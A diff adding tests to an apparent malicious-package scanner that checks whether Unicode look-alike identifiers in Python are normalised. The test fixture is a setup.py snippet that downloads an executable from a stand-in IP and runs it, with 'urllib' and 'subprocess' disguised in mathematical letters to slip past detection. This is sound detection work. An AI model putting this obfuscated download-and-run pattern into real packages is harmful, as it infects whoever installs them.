@@ -313,3 +313,23 @@ describe('Python rules (positive and negative)', () => {
     }
   });
 });
+
+describe('identifier normalisation (PEP 3131 NFKC)', () => {
+  // Mathematical bold/italic letters: Python reads `𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀` as `subprocess`.
+  const disguised = (s: string) =>
+    [...s]
+      .map((c) => (c >= 'a' && c <= 'z' ? String.fromCodePoint(0x1d5ee + c.charCodeAt(0) - 97) : c))
+      .join('');
+
+  it('resolves look-alike identifiers to the names Python sees', async () => {
+    const code = `import os, subprocess, urllib.request\np = os.path.join(os.getenv('TEMP'), 'u.exe')\n${disguised('urllib')}.request.urlretrieve('http://192.0.2.1/u.exe', p)\n${disguised('subprocess')}.Popen(p)\n`;
+    const r = await scanSdist({ 'setup.py': `${code}${SETUP}` });
+    expect(rulesOf(r)).toContain('PY-005');
+    expect(r.verdict).toBe('malicious');
+  });
+
+  it('leaves look-alike letters inside strings alone', async () => {
+    const r = await scanSdist({ 'fixture_py/__init__.py': `GREETING = '${disguised('subprocess')}'\n` });
+    expect(r.verdict).toBe('clean');
+  });
+});
